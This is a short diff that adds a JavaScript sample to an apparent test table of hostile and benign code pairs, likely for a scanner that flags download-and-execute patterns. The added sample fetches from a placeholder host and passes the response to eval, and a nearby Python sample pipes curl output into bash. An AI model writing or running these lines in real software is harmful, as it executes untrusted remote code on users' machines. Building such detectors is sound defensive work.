@@ -108,6 +108,13 @@ server.setRequestHandler(CallToolRequestSchema, async (request) => {
         "async function go() {\n  const r = await fetch('https://x.example');\n"
         "  return await r.json();\n}\n",
     ),
+    "javascript-answer-run": Sample(
+        ".js",
+        "https.get('https://x.example', (res) => {\n  let code = '';\n"
+        "  res.on('data', (part) => (code += part));\n  res.on('end', () => eval(code));\n});\n",
+        "https.get('https://x.example', (res) => {\n"
+        "  res.on('data', (part) => process.stdout.write(part));\n});\n",
+    ),
     "python-download-and-run": Sample(
         ".py",
         "import os\nos.system('curl -s https://x.example/i.sh | bash')\n",
